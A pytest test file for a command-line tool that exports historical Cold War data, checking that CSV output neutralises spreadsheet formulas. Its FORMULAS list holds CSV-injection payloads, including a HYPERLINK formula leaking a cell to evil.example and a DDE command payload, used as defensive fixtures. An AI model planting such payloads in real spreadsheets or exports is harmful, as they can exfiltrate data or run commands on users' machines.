"""Exports that real tools accept: CSV a spreadsheet will not run, Markdown that shows the data
literally, SVG charts whose text fits, TimelineJS documents TimelineJS can load.

Data files are untrusted, so most tests here feed relcli a copy of the fixture data with hostile
titles and read the output back with the tool's own kind of reader (Python's csv, markdown-it,
an XML parser, a TimelineJS format validator).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relcli.render import Projection, RenderOptions, renderer
from relcli.render.csv import FORMULA_STARTS, neutralised
from tests.conftest import MINI


def hostile(changes: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """The fixture data with some records' keys replaced: ``{"events/inf-signed": {...}}``."""
    document = json.loads(MINI.read_text(encoding="utf-8"))
    for where, values in changes.items():
        array, record_id = where.split("/")
        record = next(r for r in document[array] if r["id"] == record_id)
        record.update(values)
    return document


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ---- CSV: no formulas for spreadsheets -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-1+2",
    "-12.5",  # a negative number is prefixed too: relcli writes none of its own
    "-",
    "@SUM(A1:A9)",
    "\t=1+2",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_csv_prefixes_formula_cells(relcli, write_data, title: str) -> None:  # type: ignore[no-untyped-def]
    data = write_data(hostile({"events/inf-signed": {"title": title}}))
    result = relcli("--data", str(data), "timeline", "--format", "csv")
    assert result.code == 0
    row = next(r for r in csv_rows(result.out) if r["id"] == "inf-signed")
    assert row["title"] == "'" + title
    raw = relcli("--data", str(data), "timeline", "--format", "csv", "--csv-raw")
    assert next(r for r in csv_rows(raw.out) if r["id"] == "inf-signed")["title"] == title


def test_csv_leaves_ordinary_cells_alone(relcli, write_data) -> None:  # type: ignore[no-untyped-def]
    titles = {"inf-signed": "a=b+c", "new-start-signed": " =1+2", "year-2013": "'quoted'"}
    data = write_data(hostile({f"events/{k}": {"title": v} for k, v in titles.items()}))
    rows = {r["id"]: r for r in csv_rows(relcli("--data", str(data), "timeline", "-f", "csv").out)}
    assert {k: rows[k]["title"] for k in titles} == titles
    assert rows["crimea-annexed"]["date"] == "2014-03-18"  # dates and empty cells unchanged
    assert rows["crimea-annexed"]["end_date"] == "2014-03-21"
    assert rows["year-2013"]["end_date"] == ""


def test_csv_carriage_return_and_multiline_cells(relcli, write_data) -> None:  # type: ignore[no-untyped-def]
    summary = "\r=1+2\nsecond line, with a comma"
    data = write_data(hostile({"events/inf-signed": {"summary": summary}}))
    text = relcli("--data", str(data), "export", "csv", "-").out
    row = next(r for r in csv_rows(text) if r["id"] == "inf-signed")
    assert row["summary"].startswith("'\r=1+2") and row["summary"].endswith("with a comma")


COMMANDS = [
    (("timeline",), "title"),
    (("on", "12-08"), "title"),
    (("event", "inf-signed"), "title"),
    (("search", "plus"), "title"),
    (("timeline", "--fields", "title,summary"), "title"),
    (("quotes",), "text"),
    (("quote", "reagan-trust-but-verify"), "text"),
    (("actors",), "name"),
    (("actor", "Reagan"), "name"),
    (("treaties",), "name"),
    (("treaty", "INF"), "name"),
    (("eras",), "name"),
]


@pytest.mark.parametrize(("args", "column"), COMMANDS)
def test_every_command_guards_its_csv(
    relcli, write_data, args: tuple[str, ...], column: str
) -> None:  # type: ignore[no-untyped-def]
    data = write_data(
        hostile(
            {
                "events/inf-signed": {"title": "=1+2 plus"},
                "quotes/reagan-trust-but-verify": {"text": "=1+2"},
                "actors/ronald-reagan": {"name": "=1+2", "aliases": ["Reagan"]},
                "treaties/inf-treaty": {"name": "@1+2"},
                "eras/cold-war": {"name": "-1+2"},
            }
        )
    )
    rows = csv_rows(relcli("--data", str(data), *args, "--format", "csv").out)
    cells = [row[column] for row in rows]
    assert any(cell.startswith("'") for cell in cells), cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    raw = csv_rows(relcli("--data", str(data), *args, "--format", "csv", "--csv-raw").out)
    assert any(row[column].startswith(FORMULA_STARTS) for row in raw)


def test_export_csv_guards_and_raw(relcli, write_data, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = write_data(hostile({"events/inf-signed": {"title": "=1+2"}}))
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert relcli("--data", str(data), "export", "csv", str(safe)).code == 0
    assert relcli("--data", str(data), "export", "csv", str(raw), "--csv-raw").code == 0
    assert csv_rows(safe.read_text(encoding="utf-8"))[0]["title"] == "'=1+2"
    assert csv_rows(raw.read_text(encoding="utf-8"))[0]["title"] == "=1+2"
    assert (
        safe.read_text(encoding="utf-8") == relcli("--data", str(data), "timeline", "-f", "csv").out
    )


@pytest.mark.parametrize(
    "args",
    [
        ("timeline", "--csv-raw"),
        ("timeline", "--json", "--csv-raw"),
        ("timeline", "-f", "md", "--csv-raw"),
        ("timeline", "--jq", ".", "--csv-raw"),
        ("export", "ics", "-", "--csv-raw"),
        ("export", "timelinejs", "-", "--csv-raw"),
    ],
)
def test_csv_raw_without_csv_is_a_usage_error(relcli, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    result = relcli(*args)
    assert (result.code, result.out) == (2, "")
    assert "--csv-raw applies to CSV output" in result.err


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=0, max_size=30))
def test_csv_round_trip_of_any_text(text: str) -> None:
    document = Projection(["title"], [{"title": text}])
    [safe] = csv_rows(renderer("csv")(document, RenderOptions()))
    [raw] = csv_rows(renderer("csv")(document, RenderOptions(csv_raw=True)))
    # the csv module reads "\r\n" and a lone "\r" inside a quoted cell back as written
    assert raw["title"] == text
    assert safe["title"] == ("'" + text if text[:1] in set(FORMULA_STARTS) else text)
    assert safe["title"] == neutralised(text)
